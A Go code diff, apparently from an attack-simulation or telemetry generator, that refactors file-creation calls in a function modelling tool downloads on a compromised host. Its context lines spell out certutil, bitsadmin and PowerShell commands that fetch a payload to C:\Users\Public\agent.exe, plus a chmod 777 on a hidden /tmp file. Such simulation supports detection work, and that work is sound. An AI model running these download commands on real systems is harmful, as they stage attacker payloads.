@@ -198,13 +198,13 @@ func fetchTools(a *Attempt) Progress {
 		a.start(f, world.Chmod, "chmod 777 /tmp/.agent")
 	case a.Tool == "certutil":
 		p = a.start(f, world.Certutil, "certutil.exe -urlcache -split -f "+url+` C:\Users\Public\agent.exe`)
-		a.World.CreateFile(a.Now+3*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
+		a.createFile(a.Now+3*time.Second, p, `C:\Users\Public\agent.exe`)
 	case a.Tool == "bitsadmin":
 		p = a.start(f, world.Bitsadmin, "bitsadmin.exe /transfer job /download /priority high "+url+` C:\Users\Public\agent.exe`)
-		a.World.CreateFile(a.Now+9*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
+		a.createFile(a.Now+9*time.Second, p, `C:\Users\Public\agent.exe`)
 	default:
 		p = a.start(f, world.PowerShell, `powershell.exe -c "Invoke-WebRequest `+url+` -OutFile C:\Users\Public\agent.exe"`)
-		a.World.CreateFile(a.Now+3*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
+		a.createFile(a.Now+3*time.Second, p, `C:\Users\Public\agent.exe`)
 	}
 	a.World.Flow(a.Now+time.Second, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 3e6, Duration: 4 * time.Second})
 	a.World.TLS(a.Now+time.Second, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, a.Issuer(to), "CN="+to.Domain, a.PublicCertificate)
